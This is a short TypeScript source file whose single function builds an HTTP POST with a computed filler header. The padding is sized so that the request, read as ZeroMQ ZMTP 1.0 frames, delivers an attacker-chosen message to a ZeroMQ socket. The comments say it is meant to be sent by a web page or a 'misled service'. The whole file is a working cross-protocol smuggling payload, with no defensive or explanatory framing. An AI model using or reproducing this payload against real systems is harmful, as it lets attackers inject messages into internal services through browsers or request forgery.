// HTTP as a web page or a misled service sends it to a ZeroMQ socket.

/** A POST whose head, read as frames of ZMTP 1.0 (a length, then flags), ends where the body begins. */
export function post(body: Buffer): Buffer {
  const line = 'POST / HTTP/1.1\r\n'
  const first = line.charCodeAt(0) + 1
  const filler = 'b'
  const size = first + filler.charCodeAt(0) + 1
  const head = `${line}X-Fill: `
  const end = '\r\n\r\n'
  const text = head + filler.repeat(size - head.length - end.length) + end
  // The body begins with a frame header (length and flags), and the message follows.
  return Buffer.concat([Buffer.from(text), Buffer.from([body.byteLength + 1, 0]), body])
}
